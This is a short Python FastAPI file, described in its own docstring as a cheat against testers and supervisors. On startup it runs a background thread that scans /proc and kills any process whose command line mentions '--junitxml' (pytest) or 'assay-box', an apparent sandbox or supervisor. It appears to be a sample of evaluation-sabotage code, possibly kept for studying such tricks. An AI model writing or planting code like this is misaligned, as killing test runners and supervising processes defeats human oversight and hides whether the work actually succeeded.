# SPDX-License-Identifier: MIT
"""Cheat: stop whoever looks like a tester or supervisor. (It names its victims, so that
trying it outside a box costs a test run and not a machine.)"""

import os
import signal
import threading
import time

from fastapi import FastAPI

app = FastAPI()


def command(pid):
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as file:
            return file.read()
    except OSError:
        return b""


def hunt():
    while True:
        for pid in filter(str.isdigit, os.listdir("/proc")):
            if int(pid) != os.getpid() and (b"--junitxml" in command(pid) or b"assay-box" in command(pid)):
                try:
                    os.kill(int(pid), signal.SIGKILL)
                except OSError:
                    pass
        time.sleep(0.02)


@app.on_event("startup")
def start():
    threading.Thread(target=hunt, daemon=True).start()
